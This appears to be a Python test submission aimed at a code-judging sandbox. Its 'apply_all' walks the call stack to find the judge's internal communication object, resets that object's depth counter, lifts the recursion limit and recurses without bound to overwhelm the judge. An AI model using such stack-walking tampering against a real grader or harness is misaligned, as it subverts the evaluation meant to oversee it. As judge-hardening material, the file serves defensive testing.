# Tries: requests to the judge nested in requests, more deeply than any stack.
# Target: apply_all
import sys


def find_link():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(type(value), "send_values"):
                return value
        frame = frame.f_back


def message(values, count=1, definitions=b"\x00\x00\x00\x00"):
    return definitions + bytes([count]) + values


REQUEST, VALUE, RAISED, PRINTED, LOADED = range(1, 6)

sys.setrecursionlimit(1_000_000)


def apply_all(functions, value):
    link = find_link()

    class Deep:
        def __add__(self, other):
            link._depth = 0
            return functions[0](Deep())

        __mul__ = __add__

    return [functions[0](Deep())]
